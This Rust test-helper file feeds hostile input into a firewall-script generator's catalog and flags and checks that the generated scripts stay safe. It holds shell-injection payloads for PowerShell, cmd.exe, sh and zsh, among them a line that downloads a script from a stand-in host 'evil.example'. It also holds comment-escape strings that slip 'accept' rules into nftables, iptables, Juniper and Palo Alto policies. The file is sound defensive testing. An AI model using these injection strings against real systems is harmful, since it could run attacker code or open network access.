//! A corpus of hostile input for the paste-safety tests: text that would
//! run something if any shell an admin pastes into read it as code, put
//! into every place of a catalog that reaches a script, and into the flags.
//!
//! Each payload names the marker file it would create, so a test only has to
//! look for files called `pwned*`.

use std::path::{Path, PathBuf};

use vmmports::catalog::Catalog;

/// Text that means harm in at least one of PowerShell, cmd.exe, bash, dash
/// or zsh, and holds no `|` (which Windows refuses in rule descriptions; see
/// [`PIPE`]).
pub const PAYLOADS: [&str; 8] = [
    // PowerShell: a sub-expression and a statement after `;`.
    "(iwr http://evil.example/x.ps1 -OutFile pwned-ps1); Start-Process calc.exe",
    // sh: command substitution in both spellings.
    "$(touch pwned-subst) `touch pwned-tick`",
    // Every shell: a second statement, and a comment that is none in zsh.
    "x; touch pwned-semi; :",
    // sh and cmd.exe: and-lists and redirection.
    "a && touch pwned-and > pwned-redirect",
    // Quotes of every kind that could end a string early.
    "host's Configure > System \"q\" ‘curly’ “dq” ' ; touch pwned-quote ; '",
    // cmd.exe: `&`, `^`, variables, delayed expansion.
    "& echo x > pwned-cmd ^& %PATH% !PATH!",
    // PowerShell: variables, script blocks, a hash literal, redirection.
    "#{x}; $env:x; @{a=1}; Write-Output 1 > pwned-psredirect",
    // zsh: globs, history, `=cmd` expansion, a brace group.
    "=touch ^x *(e:'touch pwned-glob':) !! { touch pwned-brace }",
];

/// Characters that read as nothing or change how the text around them reads
/// (issue 21): format characters (Cf) beyond the bidirectional controls,
/// default-ignorable code points, tag characters, and noncharacters, which
/// are not text at all and break YAML loaders.
pub const INVISIBLE: [char; 16] = [
    '\u{2060}',  // word joiner
    '\u{00AD}',  // soft hyphen
    '\u{2061}',  // function application
    '\u{2064}',  // invisible plus
    '\u{206A}',  // inhibit symmetric swapping
    '\u{206F}',  // nominal digit shapes
    '\u{FFF9}',  // interlinear annotation anchor
    '\u{FFFB}',  // interlinear annotation terminator
    '\u{E0001}', // language tag
    '\u{E0041}', // tag latin capital letter a
    '\u{E007F}', // cancel tag
    '\u{FE0F}',  // variation selector-16
    '\u{3164}',  // hangul filler
    '\u{FFFE}',  // noncharacter
    '\u{FFFF}',  // noncharacter
    '\u{FDD0}',  // noncharacter
];

/// Text that would end a comment early in one of the network policy's
/// targets, and add a rule after it: nftables and iptables (`"`), Juniper
/// (`*/`), Palo Alto's XML (`</description>`), Aerleon's YAML (`\`, `"`).
pub const POLICY_PAYLOADS: [&str; 5] = [
    "VMM\"; ip saddr 0.0.0.0/0 accept comment \"",
    "x */ then accept; } term all { then accept; /* y",
    "x</description><action>allow</action><description>y &amp; z",
    "\" -j ACCEPT -m comment --comment \"",
    "back\\slash \\\" $x `y` #{z} 'q' %PATH% ?",
];

/// The embedded catalog with `payloads` in its components' names, in
/// turn: the text that reaches a policy's comments.
pub fn policy_catalog(payloads: &[&str]) -> Catalog {
    let mut catalog = vmmports::catalog::embedded().expect("the embedded catalog loads");
    let mut payloads = payloads.iter().cycle();
    for component in &mut catalog.components {
        component.name = format!("{} {}", component.name, payloads.next().unwrap());
    }
    catalog
}

/// `|`, which pipes in every shell and which Windows Firewall refuses in a
/// rule's name or description.
pub const PIPE: &str = "a | touch pwned-pipe";

/// Flags whose values reach a script: the group, in its hostile forms that
/// are still fair for the sh family and PowerShell's quoting.
pub const GROUPS: [&str; 4] = [
    "VMM; Start-Process calc.exe",
    "VMM $(touch pwned-group) `touch pwned-group2`",
    "VMM' ; touch pwned-group3 ; '",
    "VMM #{a} %PATH% $x",
];

/// The embedded catalog with a payload in every text that reaches a
/// script: the title, the source, each component's name and place of
/// configuration, and each port's service and purpose (rule descriptions).
/// `with_pipe` also puts [`PIPE`] in one purpose.
pub fn catalog(with_pipe: bool) -> Catalog {
    let mut catalog = vmmports::catalog::embedded().expect("the embedded catalog loads");
    let mut payloads = PAYLOADS.iter().cycle();
    let mut next = || *payloads.next().unwrap();
    catalog.title = format!("VMM {}", next());
    catalog.source = format!("docs {}", next());
    for component in &mut catalog.components {
        component.name = format!("{} {}", component.name, next());
        if component.configured_in.is_some() {
            component.configured_in = Some(format!("settings {}", next()));
        }
    }
    for connection in &mut catalog.connections {
        for port in &mut connection.ports {
            port.service = format!("{} {}", port.service, next());
            port.purpose = format!("{} {}", port.purpose, next());
        }
    }
    if with_pipe {
        catalog.connections[0].ports[0].purpose = format!("reaches {PIPE}");
    }
    catalog
}

/// Writes [`catalog`] as a JSON catalog file in `dir`, for `--data`.
pub fn catalog_file(dir: &Path, with_pipe: bool) -> PathBuf {
    let path = dir.join(if with_pipe {
        "hostile-pipe.json"
    } else {
        "hostile.json"
    });
    std::fs::write(&path, vmmports::catalog::to_json(&catalog(with_pipe))).unwrap();
    path
}

/// `vmmports ARGS` with an empty config folder, so no admin's file plays in.
pub fn vmmports(args: &[&str]) -> std::process::Output {
    use super::process::Start;
    let config = tempfile::tempdir().unwrap();
    super::binary::vmmports_std()
        .args(args)
        .env("XDG_CONFIG_HOME", config.path())
        .env_remove("NO_COLOR")
        .run()
}

/// Every `pwned*` file under `dir`: what a payload would have created.
pub fn markers(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.starts_with("pwned") {
            found.push(name);
        } else if entry.file_type().unwrap().is_dir() {
            found.extend(markers(&entry.path()));
        }
    }
    found
}

/// [`catalog_file`] in a folder of its own; the folder lives as long as the
/// returned guard, and the path is ready for `--data`.
pub fn catalog_in_tempdir(with_pipe: bool) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = catalog_file(dir.path(), with_pipe);
    let path = path.to_str().unwrap().to_string();
    (dir, path)
}

/// The script a run that must succeed printed; fails with its stderr.
pub fn script(out: &std::process::Output, context: &str) -> String {
    assert_eq!(
        out.status.code(),
        Some(0),
        "{context}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap()
}

/// What a run on hostile input may do: print a whole script (exit 0,
/// returned), or refuse (exit 2, `None`) without printing half a script.
/// Anything else fails.
pub fn script_or_refusal(out: &std::process::Output, context: &str) -> Option<String> {
    match out.status.code() {
        Some(0) => Some(String::from_utf8(out.stdout.clone()).unwrap()),
        Some(2) => {
            assert!(out.stdout.is_empty(), "{context}: half a script");
            None
        }
        other => panic!("{context}: exit {other:?}"),
    }
}
